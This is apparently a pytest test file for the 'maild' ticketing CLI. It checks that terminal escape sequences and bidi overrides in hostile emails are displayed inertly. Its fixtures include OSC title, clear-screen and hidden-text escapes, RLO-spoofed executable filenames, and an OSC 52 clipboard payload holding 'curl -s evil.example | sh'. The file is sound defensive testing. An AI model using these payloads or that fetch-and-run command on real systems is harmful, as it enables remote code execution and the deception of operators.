"""Attack: terminal escapes in what a client wrote reach the operator's terminal (issue 13).

A subject with `ESC ] 0 ; ... BEL` (retitle) and `ESC [ 2 J` (clear), a display name with
`ESC [ 8 m` (hidden text), a body with OSC 52 (a clipboard write), single-byte C1 controls
(U+009B is CSI to some terminals) and bidi overrides were printed raw by `maild tickets
list/show`. Every human-readable output now shows them as visible escapes (`\\x1b`, `\\u202e`),
and `--json` stays valid JSON with no raw control or bidi character in its bytes.
"""

from __future__ import annotations

import base64
import io
import json
import logging
import os
import pty
import re
import subprocess
import sys
import zipfile
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import create_engine, select
from sqlalchemy.orm import Session

from maild.cli import _PrintableFormatter
from maild.terminal import json_text, printable
from storage.models import (
    Artifact,
    Attachment,
    Contact,
    Event,
    InboundMessage,
    Message,
    Ticket,
)
from tests.conftest import write_config

# What a terminal acts on: C0 but newline and tab, DEL, C1, bidi embeddings/overrides/isolates.
ACTIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
ACTIVE_BYTES = (b"\x1b", b"\x07", b"\xc2\x9b", b"\xe2\x80\xae", b"\xe2\x81\xa6")

OSC_TITLE = "\x1b]0;maild pwned\x07"
CLEAR = "\x1b[2J"
HIDE = "\x1b[8m"
CSI_C1 = "\u009b31m"
OSC_52 = "\x1b]52;c;" + base64.b64encode(b"curl -s evil.example | sh\n").decode() + "\x07"
RLO, LRI = "\u202e", "\u2066"

SUBJECT = f"{OSC_TITLE}{CLEAR}Не открывается отчёт {RLO}fdp.exe"
NAME = f"Пётр {HIDE}Сидоров{CSI_C1}"
BODY = f"Добрый день!\n{OSC_52}Отчёт падает {CSI_C1}{LRI}снова\nСпасибо{HIDE}"
FILENAME = f"report{CLEAR}{RLO}gpj.exe"
ARCHIVE_ENTRY = f"logs/{OSC_TITLE}server{RLO}gol.exe"


def _encoded_word(text: str) -> str:
    return "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _part(headers: str, payload: bytes) -> str:
    encoded = base64.encodebytes(payload).decode().replace("\n", "\r\n")
    return f"--b1\r\n{headers}Content-Transfer-Encoding: base64\r\n\r\n{encoded}"


def hostile_mail() -> bytes:
    """As an attacker's client sends it: RFC 2047 words in From and Subject, an RFC 2231
    filename, a base64 body: escapes survive every transfer encoding."""
    return (
        f"From: {_encoded_word(NAME)} <sidorov@stroymontazh.ru>\r\n"
        "To: info@sis.ru\r\n"
        f"Subject: {_encoded_word(SUBJECT)}\r\n"
        "Date: Tue, 03 Mar 2026 10:15:00 +0000\r\n"
        "Message-ID: <escapes-1@stroymontazh.ru>\r\n"
        "MIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=b1\r\n\r\n"
        + _part("Content-Type: text/plain; charset=utf-8\r\n", BODY.encode())
        + _part(
            "Content-Type: text/plain\r\n"
            f"Content-Disposition: attachment; filename*=utf-8''{quote(FILENAME)}\r\n",
            b"2026-03-03 10:00:00 ERROR boom\n",
        )
        + _part(
            "Content-Type: application/zip\r\n"
            'Content-Disposition: attachment; filename="logs.zip"\r\n',
            _zip({ARCHIVE_ENTRY: b"x", "logs/app.log": b"y"}),
        )
        + "--b1--\r\n"
    ).encode()


@pytest.fixture
def maild(tmp_path, sqlite_url):
    config = write_config(tmp_path, sqlite_url)

    def run(*args: str, check: bool = True) -> subprocess.CompletedProcess[bytes]:
        result = subprocess.run(
            [sys.executable, "-m", "maild", *args, "--config", str(config)],
            capture_output=True, check=False,
        )  # fmt: skip
        if check and result.returncode != 0:
            raise AssertionError(result.stderr.decode())
        return result

    run("init")
    mail = tmp_path / "hostile.eml"
    mail.write_bytes(hostile_mail())
    run("ingest", str(mail))
    return run


def assert_inert(output: bytes) -> str:
    """Nothing a terminal would act on; returns the text for further checks."""
    for active in ACTIVE_BYTES:
        assert active not in output, (active, output)
    text = output.decode("utf-8")
    assert not ACTIVE.search(text), ACTIVE.findall(text)
    return text


def _store_as_an_older_maild_did(sqlite_url: str) -> None:
    """Rows from before parse-time cleaning (or from a future parser bug) carry the raw
    controls; the CLI must not trust the database to have cleaned them."""
    engine = create_engine(sqlite_url)
    with Session(engine) as session, session.begin():
        ticket = session.get_one(Ticket, 1)
        ticket.subject = SUBJECT
        session.get_one(Contact, ticket.requester_id).name = NAME
        for message in session.scalars(select(Message).where(Message.ticket_id == 1)):
            message.sender_name = NAME
            message.subject = SUBJECT
        attachment = session.scalars(select(Attachment).order_by(Attachment.id)).first()
        assert attachment is not None
        attachment.filename = FILENAME
        for artifact in session.scalars(select(Artifact)):
            if artifact.listing:  # the zip's
                entries = [
                    {**entry, "name": ARCHIVE_ENTRY} for entry in artifact.listing["entries"]
                ]
                artifact.listing = {**artifact.listing, "entries": entries}
        event = session.scalars(select(Event).where(Event.ticket_id == 1)).first()
        assert event is not None
        event.detail = {**(event.detail or {}), "explanation": f"from {NAME}: {SUBJECT}"}
        ledger = session.scalars(select(InboundMessage)).first()
        assert ledger is not None
        ledger.state, ledger.message_id = "quarantined", f"{CLEAR}x@stroymontazh.ru"
        ledger.explanation = f"quarantined: cannot parse {OSC_TITLE}"
    engine.dispose()


# --- the attack, end to end through the real CLI ---


def test_body_escapes_are_shown_not_obeyed(maild):
    shown = assert_inert(maild("tickets", "show", "1").stdout)
    assert "\\x1b]52;c;" in shown  # the clipboard write, visible and inert
    assert "\\x9b31m" in shown
    assert "\\u2066снова" in shown
    assert "Отчёт падает" in shown  # the rest of the text as it was
    assert_inert(maild("tickets", "list").stdout)
    assert_inert(maild("artifacts", "list", "1").stdout)


def test_bidi_override_in_subject_is_shown_not_obeyed(maild):
    # Parsing drops bidi overrides from one-line fields (parsers.message.header_text), so a
    # freshly parsed subject reads in its real order; rows an older maild stored with the
    # override are shown escaped (test_rows_with_raw_controls_are_shown_inert_everywhere).
    listed = assert_inert(maild("tickets", "list").stdout)
    assert "Не открывается отчёт fdp.exe" in listed
    shown = assert_inert(maild("tickets", "show", "1").stdout)
    assert shown.startswith("[SIS #1] ")
    assert "Не открывается отчёт fdp.exe" in shown


def test_rows_with_raw_controls_are_shown_inert_everywhere(maild, sqlite_url):
    _store_as_an_older_maild_did(sqlite_url)
    listed = assert_inert(maild("tickets", "list").stdout)
    assert "\\x1b]0;maild pwned\\x07\\x1b[2JНе открывается" in listed
    shown = assert_inert(maild("tickets", "show", "1").stdout)
    assert "requester: Пётр \\x1b[8mСидоров\\x9b31m <sidorov@stroymontazh.ru>" in shown
    assert "report\\x1b[2J\\u202egpj.exe" in shown  # the attachment line
    assert "from Пётр \\x1b[8m" in shown  # the event's explanation
    artifacts = assert_inert(maild("artifacts", "list", "1").stdout)
    assert "report\\x1b[2J\\u202egpj.exe" in artifacts
    assert "server\\u202egol.exe" in artifacts  # an archive entry
    quarantine = assert_inert(maild("quarantine", "list").stdout)
    assert "\\x1b[2Jx@stroymontazh.ru" in quarantine
    assert "cannot parse \\x1b]0;maild pwned\\x07" in quarantine


def test_json_stays_valid_keeps_the_data_and_is_inert(maild, sqlite_url):
    _store_as_an_older_maild_did(sqlite_url)
    ticket = json.loads(assert_inert(maild("tickets", "show", "1", "--json").stdout))
    assert ticket["subject"] == SUBJECT  # a script still gets exactly what was stored
    assert ticket["requester"]["name"] == NAME
    assert ticket["messages"][0]["text"].startswith(BODY.split("\n")[0])
    assert OSC_52 in ticket["messages"][0]["text"]
    [row] = json.loads(assert_inert(maild("tickets", "list", "--json").stdout))
    assert row["subject"] == SUBJECT
    items = json.loads(assert_inert(maild("artifacts", "list", "1", "--json").stdout))
    assert items[0]["filename"] == FILENAME
    names = [entry["name"] for item in items if item["archive"] for entry in item["archive"]["entries"]]  # fmt: skip
    assert ARCHIVE_ENTRY in names


def test_ingest_output_and_errors_are_inert(maild, tmp_path):
    source = tmp_path / f"mail{OSC_TITLE}{RLO}.eml"
    source.write_bytes(hostile_mail().replace(b"escapes-1@", b"escapes-2@"))
    result = maild("ingest", "--json", str(source))
    [decision] = [json.loads(line) for line in assert_inert(result.stdout).splitlines()]
    assert decision["source"] == f"file:{source}"
    assert_inert(result.stderr)
    missing = maild("ingest", str(tmp_path / f"gone{CLEAR}.eml"), check=False)
    assert missing.returncode == 2
    assert "gone\\x1b[2J.eml" in assert_inert(missing.stderr)


def _read_terminal(master: int) -> bytes:
    chunks = []
    while True:
        try:
            chunk = os.read(master, 4096)
        except OSError:  # EIO: every writer of the terminal has closed it
            break
        if not chunk:
            break
        chunks.append(chunk)
    return b"".join(chunks)


def test_an_attachment_is_not_written_to_a_terminal(maild, tmp_path):
    """`artifacts get --out -` writes the sender's bytes as they are: to a pipe, yes; to the
    operator's terminal, no."""
    [item] = [i for i in json.loads(maild("artifacts", "list", "1", "--json").stdout)
              if i["filename"] != "logs.zip"]  # fmt: skip
    piped = maild("artifacts", "get", str(item["id"]), "--out", "-")
    assert piped.stdout == b"2026-03-03 10:00:00 ERROR boom\n"
    master, terminal = pty.openpty()
    try:
        process = subprocess.Popen(
            [sys.executable, "-m", "maild", "artifacts", "get", str(item["id"]), "--out", "-",
             "--config", str(tmp_path / "maild.toml")],
            stdout=terminal, stderr=subprocess.PIPE,
        )  # fmt: skip
        os.close(terminal)
        _, errors = process.communicate(timeout=60)
        shown = _read_terminal(master)
    finally:
        os.close(master)
    assert process.returncode == 2
    assert shown == b""
    assert b"not written to a terminal" in errors


# --- the pure function ---


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b]0;title\x07", "\\x1b]0;title\\x07"),
        ("\x1b[2J\x1b[8m", "\\x1b[2J\\x1b[8m"),
        ("a\x00b\rc\x08", "a\\x00b\\x0dc\\x08"),
        ("del\x7f", "del\\x7f"),
        ("c1 \u0080 \u0085 \u009b \u009f", "c1 \\x80 \\x85 \\x9b \\x9f"),
        ("\u202a\u202b\u202c\u202d\u202e", "\\u202a\\u202b\\u202c\\u202d\\u202e"),
        ("\u2066\u2067\u2068\u2069", "\\u2066\\u2067\\u2068\\u2069"),
        ("line\n\tindented", "line\n\tindented"),
        ("Отчёт № 5 — «готов» ✓ 🙂", "Отчёт № 5 — «готов» ✓ 🙂"),
        ("\u00a0nbsp and \u00a9", "\u00a0nbsp and \u00a9"),  # past C1: printable
    ],
)
def test_printable_shows_controls_as_escapes(text, shown):
    assert printable(text) == shown


@given(st.text())
def test_printable_output_has_no_control_but_newline_and_tab(text):
    shown = printable(text)
    assert not ACTIVE.search(shown)
    assert shown.count("\n") == text.count("\n")
    assert shown.count("\t") == text.count("\t")


@given(st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs"))))
def test_printable_leaves_text_without_controls_alone(text):
    expected = ACTIVE.sub("", text)
    assert printable(expected) == expected


@given(st.recursive(st.none() | st.booleans() | st.integers() | st.text(),
                    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)))  # fmt: skip
def test_json_text_round_trips_and_is_inert(value):
    text = json_text(value)
    assert json.loads(text) == value
    assert not ACTIVE.search(text)
    assert "\n" not in text  # one object per line stays one line


def test_json_dumps_alone_would_leak_c1_and_bidi():
    """Why `json_text` exists: ensure_ascii=False escapes C0 but writes DEL, C1 and bidi raw."""
    raw = json.dumps("\x1b \x7f \u009b \u202e", ensure_ascii=False)
    assert "\\u001b" in raw
    assert {"\x7f", "\u009b", "\u202e"} <= set(raw)
    assert json_text("\x1b \x7f \u009b \u202e") == '"\\u001b \\u007f \\u009b \\u202e"'


def test_log_lines_show_escapes():
    """Log lines reach terminals too (stderr of `maild ingest`, `tail -f` of the log)."""
    record = logging.LogRecord(
        "maild.pipeline", logging.INFO, __file__, 1, "message from %s", (NAME,), None
    )
    line = _PrintableFormatter("%(name)s: %(message)s").format(record)
    assert line == "maild.pipeline: message from Пётр \\x1b[8mСидоров\\x9b31m"
